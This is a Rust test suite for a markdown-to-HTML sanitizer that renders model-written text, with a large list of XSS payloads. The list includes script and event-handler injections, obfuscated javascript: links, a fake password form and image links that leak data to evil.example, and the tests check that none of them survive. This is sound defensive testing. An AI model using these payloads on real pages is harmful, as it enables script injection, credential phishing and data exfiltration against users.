use super::to_html;

/// Every tag that may come out, to the letter; links are looked at by their parts.
const TAGS: &[&str] = &[
    "p",
    "/p",
    "em",
    "/em",
    "strong",
    "/strong",
    "del",
    "/del",
    "code",
    "/code",
    "pre",
    "/pre",
    "ul",
    "/ul",
    "ol",
    "/ol",
    "li",
    "/li",
    "blockquote",
    "/blockquote",
    "h1",
    "/h1",
    "h2",
    "/h2",
    "h3",
    "/h3",
    "h4",
    "/h4",
    "h5",
    "/h5",
    "h6",
    "/h6",
    "table",
    "/table",
    "thead",
    "/thead",
    "tbody",
    "/tbody",
    "tr",
    "/tr",
    "th",
    "/th",
    "td",
    "/td",
    "hr /",
    "br /",
    "/a",
];

/// Fails on anything in the page that is neither one of our tags nor text.
fn assert_harmless(page: &str, source: &str) {
    let mut rest = page;
    while let Some(start) = rest.find('<') {
        let after = &rest[start + 1..];
        let end = after
            .find('>')
            .unwrap_or_else(|| panic!("open tag: {page} from {source}"));
        let tag = &after[..end];
        assert!(is_ours(tag), "<{tag}> in {page} from {source}");
        rest = &after[end + 1..];
    }
}

fn is_ours(tag: &str) -> bool {
    if TAGS.contains(&tag) {
        return true;
    }
    if let Some(start) = tag.strip_prefix("ol start=\"") {
        return start
            .strip_suffix('"')
            .is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit()));
    }
    let Some(link) = tag.strip_prefix("a href=\"") else {
        return false;
    };
    let Some(href) = link.strip_suffix("\" rel=\"noopener noreferrer nofollow\"") else {
        return false;
    };
    let lower = href.to_lowercase();
    !href.contains(['"', '\'', '<', '>', ' ', '\\'])
        && ["http://", "https://", "mailto:"]
            .iter()
            .any(|scheme| lower.starts_with(scheme))
}

/// Ways to make a page run something, load something or look like something else.
const PAYLOADS: &[&str] = &[
    // Raw HTML, whole and torn.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <b onmouseover=alert(1)>bold</b>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password type=password>",
    "<button formaction=javascript:alert(1)>ok</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example)</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!-- --><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script",
    "<img src=\"x",
    "</p><script>alert(1)</script><p>",
    "</textarea></title></style><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>Approve here</div>",
    "<a id=approve name=approve>x</a>",
    // Images, which tell a stranger that and what was read.
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](javascript:alert(1))",
    "![](x \"onerror=alert(1)\")",
    "![a][b]\n\n[b]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x](https://evil.example/a.png =1x1)",
    // Links that are no addresses.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](intent://evil#Intent;end)",
    "[x](//evil.example/)",
    "[x](/api/freeze)",
    "[x](\\\\evil.example\\x)",
    "[x](https:\\\\evil.example)",
    "[x](https:/evil.example)",
    "[x](https:evil.example)",
    "[x](#/inbox)",
    "[x](?a=b)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: data:text/html,x",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x](https://a.example\" onclick=\"alert(1))",
    "[x](https://a.example/'onclick='alert(1))",
    "[x](https://a.example/\"><script>alert(1)</script>)",
    "[x](https://a.example \"title\\\" onclick=alert(1)\")",
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "[\"><script>alert(1)</script>](https://a.example)",
    "[x](https://a.example/<script>)",
    "[x](https://a.example/\u{202e}gpj.exe)",
    "[x](https://a.example/\u{0}x)",
    // Text that becomes an attribute.
    "```\"><script>alert(1)</script>\ncode\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "``` {.x onclick=alert(1)}\ncode\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# heading {#x onclick=alert(1)}",
    "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | d |",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "1. ![x](https://evil.example/x.png)",
    "999999999. <script>",
    "~~<script>alert(1)</script>~~",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[[javascript:alert(1)]]",
    ":::script\nalert(1)\n:::",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>alert(1)</script>",
    "<a\u{c}href=javascript:alert(1)>x</a>",
];

#[test]
fn nothing_that_a_model_writes_becomes_more_than_text() {
    for payload in PAYLOADS {
        for source in [
            (*payload).to_owned(),
            format!("before {payload} after"),
            format!("- a\n\n  {payload}"),
        ] {
            assert_harmless(&to_html(&source), &source);
        }
    }
    // All of them next to each other, in case one opens what another closes.
    let all = PAYLOADS.join("\n\n");
    assert_harmless(&to_html(&all), "all of them");
    let all = PAYLOADS.concat();
    assert_harmless(&to_html(&all), "all of them in one line");
}

#[test]
fn what_is_not_shown_as_it_was_meant_is_still_readable() {
    for (source, page) in [
        ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"),
        (
            "![a cat](https://evil.example/cat.png)",
            "<p>[image: a cat]</p>\n",
        ),
        ("[here](javascript:alert(1))", "<p>here</p>\n"),
        (
            "| a |\n|:-:|\n| b |",
            "<table><thead><tr><th>a</th></tr></thead><tbody>\n<tr><td>b</td></tr>\n</tbody></table>\n",
        ),
        ("to \u{202e}txet", "<p>to txet</p>\n"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
    ] {
        assert_eq!(to_html(source), page, "{source}");
    }
}

#[test]
fn everyday_markdown_looks_as_meant() {
    let link = |href: &str| format!("<a href=\"{href}\" rel=\"noopener noreferrer nofollow\">");
    for (source, page) in [
        (
            "**caddy** is *down*",
            "<p><strong>caddy</strong> is <em>down</em></p>\n".to_owned(),
        ),
        (
            "- a\n- b",
            "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n".to_owned(),
        ),
        (
            "`restart-caddy`",
            "<p><code>restart-caddy</code></p>\n".to_owned(),
        ),
        (
            "```sh\nvoid run x\n```",
            "<pre><code>void run x\n</code></pre>\n".to_owned(),
        ),
        (
            "[docs](https://a.example/?a=1&b=2)",
            format!(
                "<p>{}docs</a></p>\n",
                link("https://a.example/?a=1&amp;b=2")
            ),
        ),
        (
            "<https://a.example>",
            format!(
                "<p>{}https://a.example</a></p>\n",
                link("https://a.example")
            ),
        ),
        (
            "<me@a.example>",
            format!("<p>{}me@a.example</a></p>\n", link("mailto:me@a.example")),
        ),
    ] {
        assert_eq!(to_html(source), page, "{source}");
        assert_harmless(&page, source);
    }
}

#[test]
fn a_page_that_nests_without_end_is_cut_and_quick() {
    for mark in ["> ", "- ", "* ", "**", "[", "![", "<b>", "`", "1. "] {
        let source = mark.repeat(16 * 1024 / mark.len());
        let page = to_html(&source);
        assert_harmless(&page, mark);
        assert!(page.matches("<blockquote>").count() <= 32, "{mark}");
        assert!(page.len() < 40 * source.len(), "{mark}: {}", page.len());
    }
}
